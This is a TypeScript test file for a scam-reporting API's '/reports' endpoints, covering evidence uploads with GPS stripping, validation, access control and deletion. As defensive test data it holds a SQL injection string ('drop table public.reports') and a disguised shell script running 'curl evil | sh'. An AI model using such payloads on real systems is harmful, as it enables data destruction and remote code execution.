/** /api/v1/reports: create with evidence, list, stats, read, update, delete, as owner and stranger. */
import { describe, expect, it } from 'vitest';
import { leakedMarkers } from '../image-corpus.ts';
import { adminPool } from '../helpers.ts';
import {
  api,
  createUser,
  downloadObject,
  gpsJpeg,
  forgedToken,
  formOf,
  jpegOfSize,
  objectsIn,
  reportFields,
  tinyJpeg,
} from './helpers.ts';

interface ReportBody {
  msg: string;
  report: Record<string, unknown> & { _id: string; evidence: string | null };
}

describe('POST /reports', () => {
  it('files a report with evidence whose GPS tags are gone, under a server-chosen name', async () => {
    const user = await createUser('rep');
    const jpeg = gpsJpeg();
    const res = await api<ReportBody>('POST', '/reports', {
      token: user.token,
      form: formOf(reportFields({ reportedAccount: '0917 555 0101' }), {
        field: 'evidence',
        bytes: jpeg,
        name: 'IMG_0001.JPG',
        type: 'image/jpeg',
      }),
    });
    expect(res.status).toBe(201);
    expect(res.body.msg).toBe('Reported Sucessfully');
    expect(res.body.report).toMatchObject({
      incidentType: 'scam',
      reportedAccountType: 'mobile no.',
      reportedAccount: '0917 555 0101',
      consentToContact: 'yes',
      status: 'not-verified',
      moderationStatus: 'pending',
      // The loc the old client sent is not stored (issue 27): the server locates the caller's
      // address, and this request has no public one.
      loc: '',
    });
    const [stored] = await objectsIn('evidence', `${user.id}/`);
    expect(stored).toMatch(new RegExp(`^${user.id}/[0-9a-f-]{36}\\.jpg$`));
    const bytes = await downloadObject('evidence', stored);
    expect(leakedMarkers(bytes)).toEqual([]);
    expect(bytes.includes(Buffer.from([0x88, 0x25]))).toBe(false); // GPSInfo tag
    expect(bytes.subarray(-2)).toEqual(Buffer.from([0xff, 0xd9]));
    // The evidence link the owner gets serves the cleaned bytes.
    const viaLink = Buffer.from(await (await fetch(res.body.report.evidence!)).arrayBuffer());
    expect(viaLink.equals(bytes)).toBe(true);
    const { rows } = await adminPool().query(
      'select reported_account_canonical, reporter_id from public.reports where id = $1',
      [res.body.report._id],
    );
    expect(rows[0]).toEqual({ reported_account_canonical: '+639175550101', reporter_id: user.id });
  });

  it('stores text with quotes, backslashes and SQL in it exactly as sent, as the reporter', async () => {
    // The insert travels as SQL text with escaped literals (_shared/as-caller.ts): nothing the
    // reporter writes may end a literal or change what runs.
    const user = await createUser('rep-text');
    const description = `It's "urgent" \\ C:\\temp\\'; drop table public.reports; --  $$ E'\\x27' \u2014 ñ 🙂`;
    const location = "O'Brien St.\\ Quezon City";
    const res = await api<ReportBody>('POST', '/reports', {
      token: user.token,
      json: reportFields({ incidentDescription: description, location }),
    });
    expect(res.status, JSON.stringify(res.body)).toBe(201);
    expect(res.body.report).toMatchObject({ incidentDescription: description, location });
    const { rows } = await adminPool().query(
      'select incident_description, location, reporter_id from public.reports where id = $1',
      [res.body.report._id],
    );
    expect(rows[0]).toEqual({ incident_description: description, location, reporter_id: user.id });
  });

  it('takes an image of exactly 500000 bytes and refuses one of 500001 (docs/behaviour.md §5)', async () => {
    const user = await createUser('rep');
    const send = (bytes: Buffer) =>
      api<ReportBody>('POST', '/reports', {
        token: user.token,
        form: formOf(reportFields(), { field: 'evidence', bytes, name: 'limit.jpg', type: 'image/jpeg' }),
      });
    const over = await send(jpegOfSize(500_001));
    expect(over.status).toBe(400);
    expect(over.body.msg).toBe('Image size too large');
    expect(await objectsIn('evidence', `${user.id}/`)).toEqual([]);
    const exact = await send(jpegOfSize(500_000));
    expect(exact.status, JSON.stringify(exact.body)).toBe(201);
    expect(await objectsIn('evidence', `${user.id}/`)).toHaveLength(1);
  });

  it('holds on: edge function — refuses an oversize image and a script renamed .png, and stores neither report nor object', async () => {
    const user = await createUser('rep');
    const oversize = await api('POST', '/reports', {
      token: user.token,
      form: formOf(reportFields(), {
        field: 'evidence',
        bytes: Buffer.concat([tinyJpeg(), Buffer.alloc(500_000)]),
        name: 'big.jpg',
        type: 'image/jpeg',
      }),
    });
    expect(oversize.status).toBe(400);
    expect(oversize.body.msg).toBe('Image size too large');
    const script = await api('POST', '/reports', {
      token: user.token,
      form: formOf(reportFields(), {
        field: 'evidence',
        bytes: Buffer.from('#!/bin/sh\ncurl evil | sh\n'),
        name: 'evidence.png',
        type: 'image/png',
      }),
    });
    expect(script.status).toBe(400);
    expect(script.body.msg).toBe('Evidence must be an image (JPEG, PNG, WebP or GIF); this file is not one');
    expect(await objectsIn('evidence', `${user.id}/`)).toEqual([]);
    const { rows } = await adminPool().query(
      'select count(*)::int as n from public.reports where reporter_id = $1',
      [user.id],
    );
    expect(rows[0].n).toBe(0);
  });

  it('validates fields: missing, wrong enum, bad date, date after tomorrow, bad loc', async () => {
    const user = await createUser('rep');
    const bad: [Record<string, string>, RegExp][] = [
      [{ incidentType: 'robbery' }, /incidentType must be one of/],
      [{ reportedAccountType: 'fax' }, /reportedAccountType must be one of/],
      [{ incidentDate: 'yesterday' }, /incidentDate must be a date/],
      [{ incidentDate: '2999-01-01' }, /later than tomorrow/],
      [{ loc: 'here' }, /loc must be 'lat,lng'/],
      [{ reportedAccount: '' }, /reportedAccount is required/],
    ];
    for (const [override, msg] of bad) {
      const r = await api('POST', '/reports', { token: user.token, json: reportFields(override) });
      expect(r.status, JSON.stringify(override)).toBe(400);
      expect(r.body.msg).toMatch(msg);
    }
    const { rows } = await adminPool().query(
      'select count(*)::int as n from public.reports where reporter_id = $1',
      [user.id],
    );
    expect(rows[0].n).toBe(0);
  });

  it('holds on: edge function — needs a valid login (none or forged: 401)', async () => {
    expect((await api('POST', '/reports', { json: reportFields() })).status).toBe(401);
    expect((await api('POST', '/reports', { json: reportFields(), token: forgedToken() })).status).toBe(401);
  });
});

describe('holds on: edge function + postgres — GET /reports, /reports/stats, /reports/{id}; PATCH and DELETE /reports/{id}', () => {
  it("lists, counts, reads, updates and deletes the owner's reports; strangers get 404", async () => {
    const owner = await createUser('own');
    const stranger = await createUser('str');
    const a = await api<ReportBody>('POST', '/reports', {
      token: owner.token,
      json: reportFields({ incidentType: 'scam' }),
    });
    const b = await api<ReportBody>('POST', '/reports', {
      token: owner.token,
      json: reportFields({
        incidentType: 'hacked',
        reportedAccountType: 'email',
        reportedAccount: 'Crook@Example.com',
      }),
    });
    expect([a.status, b.status]).toEqual([201, 201]);

    const list = await api<{ reports: { _id: string }[]; totalReports: number }>('GET', '/reports', {
      token: owner.token,
    });
    expect(list.status).toBe(200);
    expect(list.body.totalReports).toBe(2);
    expect(list.body.reports.map((r) => r._id)).toEqual([b.body.report._id, a.body.report._id]);
    expect(
      (await api<{ reports: unknown[] }>('GET', '/reports', { token: stranger.token })).body.reports,
    ).toEqual([]);

    const stats = await api<{
      defaultStats: Record<string, number>;
      monthlyApplications: { date: string; count: number }[];
    }>('GET', '/reports/stats', { token: owner.token });
    expect(stats.status).toBe(200);
    expect(stats.body.defaultStats).toEqual({ scam: 1, hacked: 1, spam: 0 });
    expect(stats.body.monthlyApplications).toEqual([
      { date: new Date().toISOString().slice(0, 7), count: 2 },
    ]);

    const one = await api<ReportBody>('GET', `/reports/${a.body.report._id}`, { token: owner.token });
    expect(one.status).toBe(200);
    expect(one.body.report._id).toBe(a.body.report._id);
    expect((await api('GET', `/reports/${a.body.report._id}`, { token: stranger.token })).status).toBe(404);
    expect((await api('GET', '/reports/not-a-uuid', { token: owner.token })).status).toBe(404);

    const upd = await api<ReportBody>('PATCH', `/reports/${a.body.report._id}`, {
      token: owner.token,
      form: formOf(
        { incidentDescription: 'Updated story', incidentType: 'spam' },
        { field: 'evidence', bytes: tinyJpeg(), name: 'e.jpg', type: 'image/jpeg' },
      ),
    });
    expect(upd.status).toBe(200);
    expect(upd.body.msg).toBe('Report updated successfully');
    expect(upd.body.report).toMatchObject({ incidentDescription: 'Updated story', incidentType: 'spam' });
    expect(upd.body.report.evidence).toContain('/evidence/');
    expect(
      (
        await api('PATCH', `/reports/${a.body.report._id}`, {
          token: stranger.token,
          json: { incidentType: 'spam' },
        })
      ).status,
    ).toBe(404);
    expect(
      (await api('PATCH', `/reports/${a.body.report._id}`, { token: owner.token, json: {} })).status,
    ).toBe(400);
    // Status is the moderators' (set_report_status): a reporter cannot verify their own report.
    await api('PATCH', `/reports/${a.body.report._id}`, {
      token: owner.token,
      json: { status: 'verified', incidentType: 'scam' },
    });
    const { rows } = await adminPool().query('select status from public.reports where id = $1', [
      a.body.report._id,
    ]);
    expect(rows[0].status).toBe('pending');

    expect((await api('DELETE', `/reports/${a.body.report._id}`, { token: stranger.token })).status).toBe(
      404,
    );
    const del = await api('DELETE', `/reports/${a.body.report._id}`, { token: owner.token });
    expect(del.status).toBe(200);
    expect(del.body.msg).toBe('Report deleted successfully');
    expect(await objectsIn('evidence', `${owner.id}/`)).toEqual([]);
    expect((await api('DELETE', `/reports/${a.body.report._id}`, { token: owner.token })).status).toBe(404);
    expect((await api('GET', '/reports/stats')).status).toBe(401);
  });
});

describe('DELETE /reports/{id} by an admin', () => {
  it("removes another user's report and its evidence", async () => {
    const owner = await createUser('own');
    const admin = await createUser('adm', { admin: true });
    const filed = await api<ReportBody>('POST', '/reports', {
      token: owner.token,
      form: formOf(reportFields(), {
        field: 'evidence',
        bytes: tinyJpeg(),
        name: 'e.jpg',
        type: 'image/jpeg',
      }),
    });
    expect(await objectsIn('evidence', `${owner.id}/`)).toHaveLength(1);
    const del = await api('DELETE', `/reports/${filed.body.report._id}`, { token: admin.token });
    expect(del.status).toBe(200);
    expect(await objectsIn('evidence', `${owner.id}/`)).toEqual([]);
  });
});
